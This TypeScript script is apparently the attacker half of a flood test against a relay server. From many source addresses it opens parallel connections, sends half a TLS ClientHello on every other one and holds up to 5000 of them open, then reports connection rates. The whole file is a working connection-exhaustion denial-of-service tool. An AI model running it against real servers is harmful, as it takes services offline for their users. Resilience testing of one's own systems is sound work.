/** The attacker of `flood.ts`: connects from all addresses of its network; every other connection starts TLS and then sends nothing. */
import { connect } from 'node:net';
import { ATTACKERS, RELAY_IP, RELAY_PORT } from './flood-addresses.ts';

/** Connections that are being made at one time. */
const PARALLEL = 200;
/** Half handshakes that are held open at one time. */
const MAX_HELD = 5000;
/** The start of a ClientHello of 512 bytes; the rest never comes. */
const HALF_HELLO = Buffer.from('16030102000100', 'hex');

const endsAt = performance.now() + Number(process.argv[2]) * 1000;
let attempts = 0;
let connected = 0;
let held = 0;

function attack(): void {
  if (performance.now() > endsAt) return;
  const isHalf = attempts++ % 2 === 0 && held < MAX_HELD;
  let isHeld = false;
  const localAddress = ATTACKERS[attempts % ATTACKERS.length]!;
  const socket = connect({ host: RELAY_IP, port: RELAY_PORT, localAddress });
  socket.on('error', () => undefined);
  socket.once('connect', () => {
    connected++;
    if (isHalf) {
      socket.write(HALF_HELLO);
      isHeld = true;
      held++;
      // The next one does not wait for this one.
      setImmediate(attack);
    } else {
      socket.resetAndDestroy();
    }
  });
  socket.once('close', () => {
    if (isHeld) held--;
    else setImmediate(attack);
  });
}

for (let i = 0; i < PARALLEL; i++) attack();
const startedAt = performance.now();
const timer = setInterval(() => {
  if (performance.now() < endsAt) return;
  clearInterval(timer);
  const seconds = (performance.now() - startedAt) / 1000;
  console.log(
    `${attempts} connects in ${seconds.toFixed(0)} s, ${Math.round(attempts / seconds)} a second, ` +
      `${connected} of them established, ${held} half handshakes open at the end`,
  );
  process.exit(0);
}, 100);
